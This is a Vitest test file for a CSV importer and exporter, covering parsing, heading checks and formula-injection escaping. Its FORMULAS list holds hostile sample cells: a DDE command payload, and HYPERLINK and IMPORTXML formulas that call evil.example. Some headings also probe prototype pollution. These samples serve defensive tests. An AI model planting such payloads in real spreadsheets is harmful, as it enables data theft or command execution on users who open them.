import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { writeFileSync } from 'node:fs';
import { setTimeout } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { plainText } from '../output/plain-text.ts';
import { aWorkspace } from '../testing/run.ts';
import { csvLine, plainCell } from './csv-cells.ts';
import { HEADINGS } from './csv-columns.ts';
import { readCsv } from './read-csv.ts';
import { UnreadableRows, type BatchRow } from './row.ts';

async function rowsOf(text: string | Uint8Array): Promise<BatchRow[]> {
  const file = aWorkspace().at('rows.csv');
  writeFileSync(file, text);
  const rows: BatchRow[] = [];
  for await (const row of readCsv(file, text.length)) rows.push(row);
  return rows;
}

async function documentsOf(text: string | Uint8Array): Promise<unknown[]> {
  return (await rowsOf(text)).map(({ document }) => document);
}

async function mistakesOf(text: string | Uint8Array): Promise<readonly string[]> {
  try {
    await rowsOf(text);
  } catch (error) {
    if (!(error instanceof UnreadableRows)) throw error;
    return error.mistakes.map(({ path, message }) => `${path}: ${message}`);
  }
  return [];
}

/** The number of rows that a slow reader gets, and the mistake that ends them. */
async function readSlowly(text: string): Promise<readonly [number, string | undefined]> {
  const rows = readCsv(aWorkspace().file('rows.csv', text), text.length);
  let count = 0;
  try {
    for await (const _ of rows) {
      count += 1;
      await setTimeout(1);
    }
  } catch (error) {
    if (error instanceof UnreadableRows) return [count, error.mistakes[0]?.message];
    throw error;
  }
  return [count, undefined];
}

describe('a CSV row', () => {
  it('is the document that its headings name', async () => {
    const text =
      'household.postcode,household.housemates,person.termsAgreed,household.fullAddress.line1,invite.0.email\n' +
      'LS6 1AA,4, TRUE ,1 Low Road,bea@example.com\n';
    expect(await documentsOf(text)).toEqual([
      {
        household: { postcode: 'LS6 1AA', housemates: '4', fullAddress: { line1: '1 Low Road' } },
        person: { termsAgreed: true },
        invite: [{ email: 'bea@example.com' }],
      },
    ]);
  });

  it.each([
    ['a byte order mark', '\ufeffperson.tel\n07700900123\n'],
    ['Windows line breaks', 'person.tel\r\n07700900123\r\n'],
    ['no last line break', 'person.tel\n07700900123'],
    ['quotes', '"person.tel"\n"07700900123"\n'],
    ['blank lines', 'person.tel\n\n07700900123\n\n'],
    ['spaces around the heading', ' person.tel \n07700900123\n'],
    ['empty columns after the last one', 'person.tel,, \n07700900123,,\n'],
    ['a first line that names the delimiter', 'sep=;\r\nperson.tel;;\r\n07700900123;;\r\n'],
  ])('is read with %s, and keeps leading zeros', async (_, text) => {
    expect(await documentsOf(text)).toEqual([{ person: { tel: '07700900123' } }]);
  });

  it.each([';', '\t'])('may separate its cells with %j', async (delimiter) => {
    const text = ['person.firstname', 'person.lastname'].join(delimiter);
    expect(await documentsOf(`${text}\nAda${delimiter}"Byron, Countess"\n`)).toEqual([
      { person: { firstname: 'Ada', lastname: 'Byron, Countess' } },
    ]);
  });

  it('may have line breaks, quotes and 100,000 characters in a cell', async () => {
    const long = 'x'.repeat(100_000);
    const text = `person.firstname,person.lastname\n"A\nd""a",${long}\nBea,Cole\n`;
    expect(await documentsOf(text)).toEqual([
      { person: { firstname: 'A\nd"a', lastname: long } },
      { person: { firstname: 'Bea', lastname: 'Cole' } },
    ]);
  });

  it('with only empty cells is skipped, like a blank line, and counts as a line', async () => {
    const rows = await rowsOf('person.firstname,person.tel\nAda,\n,\n , \n,,\nBea,\n');
    expect(rows.map(({ line, document }) => [line, document])).toEqual([
      [2, { person: { firstname: 'Ada' } }],
      [6, { person: { firstname: 'Bea' } }],
    ]);
  });

  it('is named by the line on which it begins, if a cell has line breaks', async () => {
    const rows = await rowsOf('sep=;\nperson.firstname;person.tel\n"A\nda";1\nBea;2\n');
    expect(rows.map(({ line }) => line)).toEqual([3, 5]);
  });

  it('keeps Yes as text in a text field', async () => {
    expect(await documentsOf('person.lastname\nYes\n')).toEqual([{ person: { lastname: 'Yes' } }]);
  });

  it('keeps every housemate at the index that the heading names', async () => {
    const text = 'invite.0.email,invite.1.fullname,invite.2.email\n,,c@example.com\n,Bea,\n';
    expect(await documentsOf(text)).toEqual([
      { invite: [{}, {}, { email: 'c@example.com' }] },
      { invite: [{}, { fullname: 'Bea' }] },
    ]);
    expect(await documentsOf('invite.0.email,invite.1.email\na@x,b@x\n')).toEqual([
      { invite: [{ email: 'a@x' }, { email: 'b@x' }] },
    ]);
  });

  it('leaves empty cells out of the document', async () => {
    expect(await documentsOf('person.firstname,package.voucher\nAda,  \n')).toEqual([
      { person: { firstname: 'Ada' } },
    ]);
  });

  it('keeps a cell that is neither yes nor no as text, for the reader to refuse', async () => {
    expect(await documentsOf('person.termsAgreed\nja\n')).toEqual([
      { person: { termsAgreed: 'ja' } },
    ]);
  });

  it.each([
    ['leaves out empty cells at its end', 'Ada'],
    ['has extra empty cells', 'Ada,,,,'],
    ['has extra cells with only spaces', 'Ada, ,\u00a0,\u200b, '],
  ])('that %s is read without them', async (_, line) => {
    const rows = await rowsOf(`person.firstname,person.lastname\n${line}\nBea,Cole\n`);
    expect(rows.map(({ document, mistakes }) => [document, mistakes])).toEqual([
      [{ person: { firstname: 'Ada' } }, []],
      [{ person: { firstname: 'Bea', lastname: 'Cole' } }, []],
    ]);
  });

  it('is read with empty columns between the others', async () => {
    const text = 'person.firstname,,person.lastname, ,\nAda,,Byron\nBea, ,Cole,,,\n,,,\n';
    expect(await documentsOf(text)).toEqual([
      { person: { firstname: 'Ada', lastname: 'Byron' } },
      { person: { firstname: 'Bea', lastname: 'Cole' } },
    ]);
  });

  it('with a filled cell without a heading is refused, and the other rows are read', async () => {
    const rows = await rowsOf(
      'sep=,\nperson.email,,person.lastname\na@example.com,x,Byron\nb@example.com,,Cole,,y\nc@example.com\n',
    );
    expect(rows.map(({ document, mistakes }) => [document, mistakes])).toEqual([
      [expect.anything(), [{ path: 'column 2', message: 'This column has no heading' }]],
      [
        // With its document, so that the row can be named by its e-mail address.
        { person: { email: 'b@example.com', lastname: 'Cole' } },
        [{ path: 'column 5', message: 'This column has no heading' }],
      ],
      [{ person: { email: 'c@example.com' } }, []],
    ]);
  });

  it('has the progress of the file', async () => {
    const rows = await rowsOf(`person.tel\n${'07700900123\n'.repeat(3)}`);
    const progress = rows.map((row) => row.progress);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
    expect(progress.at(-1)).toBeCloseTo(1, 1);
    expect(progress[0]).toBeLessThan(0.6);
  });
});

describe('the headings', () => {
  it('have a mistake for each unknown one', async () => {
    expect(await mistakesOf('person.tel,person.mail,tel,07700900123,,__proto__\n')).toEqual([
      'column 2: Unknown heading person.mail. Did you mean person.email?',
      'column 3: Unknown heading tel. Did you mean person.tel?',
      'column 4: Unknown heading. See kettle schema batch',
      'column 6: Unknown heading. See kettle schema batch',
    ]);
  });

  it('may not be repeated', async () => {
    expect(await mistakesOf('person.tel,person.tel\n')).toEqual([
      'column 2: The heading person.tel is used twice',
    ]);
  });

  it.each(['Ada,Byron,,ada@example.com', 'person.tel|person.email|person.firstname'])(
    'give a single mistake if none of them is known: %j',
    async (line) => {
      const [mistake = '', ...others] = await mistakesOf(`${line}\n`);
      expect(mistake).toMatch(
        /^: No recognised column headings\. The first line must name the columns/,
      );
      expect(others).toEqual([]);
    },
  );

  it('may not be missing', async () => {
    expect((await mistakesOf('')).join()).toContain('The file is empty');
  });

  it('cannot change a prototype', async () => {
    const before = Object.getOwnPropertyNames(Object.prototype);
    await mistakesOf('__proto__.x,constructor.prototype.y\n1,2\n');
    expect(Object.getOwnPropertyNames(Object.prototype)).toEqual(before);
  });

  it('can name every leaf of the document', () => {
    expect(HEADINGS).toContain('household.fullAddress.line1');
    expect(HEADINGS).toContain('invite.14.email');
    expect(HEADINGS).not.toContain('invite.15.email');
  });
});

describe('a file that is not CSV', () => {
  it.each([
    ['person.tel\n"0770\n', /a quote mark is opened and never closed/],
    ['person.tel\n"0770" x\n', /there is text right after a closing quote mark/],
    ['person.tel\n07"70\n', /there is a quote mark in the middle of a cell/],
  ])('names the line and never the text: %j', async (text, message) => {
    const mistakes = await mistakesOf(text);
    expect(mistakes.join()).toMatch(message);
    expect(mistakes.join()).toMatch(/Line \d/);
    expect(mistakes.join()).not.toContain('70');
  });

  it('with an unclosed quote mark names the line where its row begins', async () => {
    const text = `person.tel\n"0\n1"\n"2${'\n3'.repeat(50)}`;
    expect(await mistakesOf(text)).toEqual([': Line 4: a quote mark is opened and never closed']);
  });

  it('with an unclosed quote mark names that line after many rows and blank lines', async () => {
    const text = `person.tel\n${'07700900123\n'.repeat(300)}\n,\n"0\n`;
    const [, message] = await readSlowly(text);
    expect(message).toBe('Line 304: a quote mark is opened and never closed');
  });

  it('with text right after a closing quote mark names the line', async () => {
    expect(await mistakesOf('person.tel\n"0\n1" x\n')).toEqual([
      ': Line 3: there is text right after a closing quote mark',
    ]);
  });

  it('with bytes that are not UTF-8 far from its beginning is refused', async () => {
    const rows = `person.firstname\n${'Ada\n'.repeat(20_000)}`;
    for (const end of ['\xc9lodie\n', '\xc3']) {
      const text = Buffer.concat([Buffer.from(rows), Buffer.from(end, 'latin1')]);
      expect(await mistakesOf(text)).toEqual([expect.stringMatching(/^: The file is not UTF-8/)]);
    }
  });

  it('with an encoding other than UTF-8 is refused', async () => {
    const text = Buffer.from('person.firstname\n\xc9lodie\n', 'latin1');
    expect((await mistakesOf(text)).join()).toContain('The file is not UTF-8');
  });
});

/** Cells that a spreadsheet would run as a formula, or that some readers turn into one. */
const FORMULAS = [
  ...['=', '+', '-', '@', '＝', '＋', '－', '＠'].map((sign) => `${sign}1+1`),
  ...['=', '+', '-', '@'].flatMap((sign) =>
    ['\t', '\r', '\u0000'].map((first) => `${first}${sign}1`),
  ),
  ' =1',
  '\n=1',
  '\ufeff=1',
  '"=1',
  "'=1",
  '\u001b[2J=1',
  '\u00a0=1',
  '+447700900123',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '=IMPORTXML("https://evil.example","//a")',
];

/** Formulas after a character that separates two cells. */
const AFTER_A_DELIMITER = ['x,=1', 'x","=1', 'x;=1', 'x";"=1', 'x\t=1', 'x\n=1'];

/**
 * The cells of a line as a spreadsheet with this delimiter reads them, which differs between
 * countries.
 */
function cellsOf(line: string, delimiter: string): readonly string[] {
  const records: string[][] = parse(line, {
    delimiter,
    relax_quotes: true,
    relax_column_count: true,
  });
  return records.flat();
}

describe('a written cell', () => {
  it.each(FORMULAS)(
    'that a spreadsheet would run as a formula starts with a quote mark: %j',
    (formula) => {
      expect(cellsOf(csvLine([formula, 'x']), ',')[0]).toMatch(/^'/);
    },
  );

  it.each([...FORMULAS, ...AFTER_A_DELIMITER])(
    'never becomes a formula, whichever delimiter the reader uses: %j',
    (text) => {
      for (const delimiter of [',', ';', '\t']) {
        for (const cell of cellsOf(csvLine([text, 'x']), delimiter)) {
          expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
        }
      }
    },
  );

  it('is read back as the original text', () => {
    for (const text of [...FORMULAS, ...AFTER_A_DELIMITER, "'quoted'", "O'Neil", "''", '-']) {
      const [cell = ''] = cellsOf(csvLine([text]), ',');
      expect(plainCell(cell)).toBe(plainText(text));
    }
  });

  it('is read as it was written', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ minLength: 1 }), async (text) => {
        const cell = `x${text}`;
        const read = await documentsOf(`person.lastname,person.firstname\n${csvLine([cell, 'y'])}`);
        expect(read).toHaveLength(1);
        expect(read[0]).toHaveProperty('person.firstname', 'y');
      }),
      { numRuns: 50 },
    );
  });

  it('that is a number stays a number', () => {
    expect(csvLine([-5, undefined, 'a,b'])).toBe('-5,,"a,b"\n');
  });
});
